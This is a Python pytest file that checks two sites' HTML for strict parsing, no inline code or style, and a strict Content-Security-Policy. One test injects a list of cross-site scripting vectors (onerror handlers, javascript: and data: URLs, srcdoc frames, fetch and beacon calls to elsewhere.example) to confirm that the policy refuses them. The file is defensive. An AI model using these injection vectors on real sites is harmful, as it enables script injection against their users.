"""The HTML of both sites, page by page: well formed, nothing inline, the policy first, and the policy holds."""

from __future__ import annotations

import re
from collections.abc import Iterator
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path
from typing import Any

import html5lib
import pytest
from playwright.sync_api import Route
from tests.browser.conftest import OpenPage
from tests.browser.none import assert_none
from tests.browser.pages import wait_until
from tests.browser.sites import Site

pytestmark = pytest.mark.browser

# Data in a script element runs nothing.
DATA = {"application/json", "application/ld+json"}
DIRECTIVES = {"default-src": "'none'", "script-src": "'self'", "style-src": "'self'", "base-uri": "'none'"}
# Of pages that differ only in their data a few are enough; the long run reads them all.
SAMPLE = 30


def wrong_in(page: Path) -> list[str]:
    """Read one page as strictly as html5lib can, and look for what the policy would refuse."""
    parser = html5lib.HTMLParser(namespaceHTMLElements=False, strict=True)
    try:
        tree: Any = parser.parse(page.read_bytes().decode("utf-8"))
    except html5lib.html5parser.ParseError as error:
        return [f"{page}: {error} near {parser.errors[-1:]}"]
    found = [
        f"{page}: {line}"
        for element in tree.iter()
        if isinstance(element.tag, str)
        for line in (*_inline(element), *_not_allowed(element), *_misnamed(element))
    ]
    first = tree.find("head")[0]
    policy = first.get("content", "")
    if first.get("http-equiv") != "Content-Security-Policy":
        found.append(f"{page}: the policy is not first in the head")
    found += [
        f"{page}: the policy lacks {name} {value}"
        for name, value in DIRECTIVES.items()
        if f"{name} {value}" not in policy
    ]
    if "unsafe" in policy or "http" in policy:
        found.append(f"{page}: the policy lets something in: {policy}")
    identities = [element.get("id") for element in tree.iter() if isinstance(element.tag, str) and element.get("id")]
    found += [f"{page}: the id {name} stands twice" for name in {n for n in identities if identities.count(n) > 1}]
    return found


def _inline(element: Any) -> Iterator[str]:
    if element.tag == "style":
        yield "holds a style element"
    if element.tag == "script" and not element.get("src") and element.get("type") not in DATA:
        yield "holds an inline script"
    for name, value in element.attrib.items():
        if str(name).lower().startswith("on"):
            yield f"<{element.tag}> has the handler {name}"
        if name == "style":
            yield f"<{element.tag}> has an inline style"
        if str(value).strip().lower().startswith("javascript:"):
            yield f"<{element.tag}> has a javascript: address"
    away = element.tag == "a" and str(element.get("href", "")).startswith(("http:", "https:"))
    if away and "noreferrer" not in str(element.get("rel", "")).split():
        yield f"the link to {element.get('href')} tells that site where the reader came from"


# What HTML takes for a kind of field, as the Nu checker has it, and the elements that may have a name without a role.
NO_LIMIT = {"time", "date", "datetime-local", "month", "week", "number", "range", "color", "checkbox", "radio"}
NO_COMPLETION = {"checkbox", "radio", "file", "button", "submit", "reset", "image"}
NAMELESS = {"div", "span", "p", "pre", "code", "em", "strong", "b", "i", "sup", "sub", "time", "caption", "small"}
TIME = re.compile(r"\d{4}-\d\d-\d\d(T\d\d:\d\d(:\d\d)?(Z|[+-]\d\d:\d\d)?)?")


def _not_allowed(element: Any) -> Iterator[str]:
    """Name what the parser takes and the standard does not allow."""
    kind, tag = element.get("type", "text"), element.tag
    if tag == "time" and element.get("datetime") is not None and not TIME.fullmatch(element.get("datetime")):
        yield f"<time> has no date but '{element.get('datetime')}'"
    if tag == "input" and kind in NO_LIMIT and element.get("maxlength"):
        yield f"a field of the kind {kind} has no length"
    if tag == "input" and kind in NO_COMPLETION and element.get("autocomplete"):
        yield f"a field of the kind {kind} is not completed"
    if tag in NAMELESS and element.get("aria-label") and not element.get("role"):
        yield f"<{tag}> has a name and no role, so that nobody hears it"
    if tag == "figure" and "figcaption" in [child.tag for child in element][1:-1]:
        yield "a figure's caption is neither first nor last"


def _misnamed(element: Any) -> Iterator[str]:
    """A link or button is found by the words that people see, so its name begins with them (WCAG 2.5.3).

    A number or a sign alone, such as that of a source, may stand inside its name.
    """
    name = " ".join((element.get("aria-label") or "").split()).casefold()
    seen = " ".join("".join(element.itertext()).split()).casefold()
    if element.tag not in ("a", "button", "summary") or not name or not seen:
        return
    if not (name.startswith(seen) if any(map(str.isalpha, seen)) else seen.isdecimal() <= (seen in name)):
        yield f"what reads '{seen}' is named '{name}'"


def sample(site: Site, whole: bool) -> list[Path]:
    """Choose pages of every folder of the site, evenly."""
    pages = site.pages()
    return pages if whole else pages[:: max(1, len(pages) // SAMPLE)]


@pytest.mark.parametrize("whole", [False, pytest.param(True, marks=pytest.mark.long)], ids=["sample", "every-page"])
@pytest.mark.parametrize("name", ["shipped", "showcase"])
def test_the_html_is_sound(request: pytest.FixtureRequest, name: str, whole: bool) -> None:
    """A strict parser accepts each page; no page holds inline code or style; the policy is the first of its head."""
    site: Site = request.getfixturevalue(name)
    pages = sample(site, whole)
    if not whole:
        assert_none(line for page in pages for line in wrong_in(page))
        return
    with ProcessPoolExecutor(2) as pool:
        assert_none(line for found in pool.map(wrong_in, pages, chunksize=20) for line in found)


# Each way to run code or to style that somebody could try who had got text into a page; each would set its own mark.
_INJECTED = """
<script>window.ran.push("inline")</script>
<script type="module">window.ran.push("module")</script>
<script src="data:text/javascript,window.ran.push('data')"></script>
<script src="https://elsewhere.example/x.js"></script>
<script src="//elsewhere.example/y.js"></script>
<img src="x" onerror="window.ran.push('handler')">
<svg onload="window.ran.push('svg')"><script>window.ran.push("svg-script")</script></svg>
<iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>
<iframe src="javascript:parent.ran.push('frame')"></iframe>
<object data="data:text/html,<script>parent.ran.push('object')</script>"></object>
<embed src="data:text/html,<script>parent.ran.push('embed')</script>">
<a id="link" href="javascript:window.ran.push('link')">link</a>
<form id="form" action="https://elsewhere.example/form"><button>send</button></form>
<details ontoggle="window.ran.push('toggle')" open><summary>x</summary></details>
<input autofocus onfocus="window.ran.push('focus')">
<base href="https://elsewhere.example/">
<link rel="stylesheet" href="https://elsewhere.example/x.css">
<style>#styled { color: rgb(255, 0, 0) }</style>
<p id="styled" style="color: rgb(255, 0, 0)">x</p>
"""
# Ways that begin in a script of the site's own: one that was led astray would find these closed too.
_TRIED = """
    const tries = {
        eval: () => eval("window.ran.push('eval')"),
        function: () => new Function("window.ran.push('function')")(),
        timer: () => setTimeout("window.ran.push('timer')", 0),
        worker: () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
        element: () => {
            const script = document.createElement("script");
            script.textContent = "window.ran.push('element')";
            document.body.append(script);
        },
        fetch: () => fetch("https://elsewhere.example/data").catch(() => {}),
        beacon: () => navigator.sendBeacon("https://elsewhere.example/beacon", "x"),
        picture: () => { new Image().src = "https://elsewhere.example/x.gif"; },
        link: () => document.querySelector("#link").click(),
        form: () => document.querySelector("#form button").click(),
    };
    for (const [name, act] of Object.entries(tries)) {
        try { act(); } catch { /* refused, as it should be */ }
    }
"""
IN_TEXT = ("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "base-uri")
BY_SCRIPT = ("script-src eval", "connect-src", "img-src", "form-action")


@pytest.mark.parametrize(
    ("path", "kinds"), [("groups/example-fresh.html", IN_TEXT + BY_SCRIPT), ("get-help-now/", IN_TEXT)]
)
def test_an_injected_script_does_not_run(
    showcase: Site, open_page: OpenPage, path: str, kinds: tuple[str, ...]
) -> None:
    """Code and style in the very text of a page, and what a script could make or send, are refused by its policy."""
    page, watch = open_page(showcase, "about/")
    page.add_init_script("window.ran = []")
    stopped: set[str | None] = set()
    page.on("requestfailed", lambda request: stopped.add(request.failure) if request.url in watch.elsewhere else None)

    def inject(route: Route) -> None:
        answer = route.fetch()
        html, places = re.subn(r"<main[^>]*>", lambda main: main[0] + _INJECTED, answer.text())
        assert places == 1
        route.fulfill(response=answer, body=html)

    page.route(showcase.url + path, inject)
    page.route(re.compile(r"/start\.mjs"), lambda route: route.fulfill(body=_TRIED, content_type="text/javascript"))
    page.goto(showcase.url + path, wait_until="commit")  # its load may never end: much of it is refused
    # All has been tried when each kind of refusal has been told of.
    wait_until(
        page,
        "(kinds) => kinds.every((kind) => window.__refused.some((line) => line.startsWith(kind)))",
        arg=list(kinds),
    )
    assert page.evaluate("window.ran") == []
    assert page.evaluate("getComputedStyle(document.querySelector('#styled')).color") != "rgb(255, 0, 0)"
    # The browser tells of what it did not send, too: each was stopped by the policy, and none by the test's own net.
    assert stopped == {"csp"}
    assert page.url == showcase.url + path
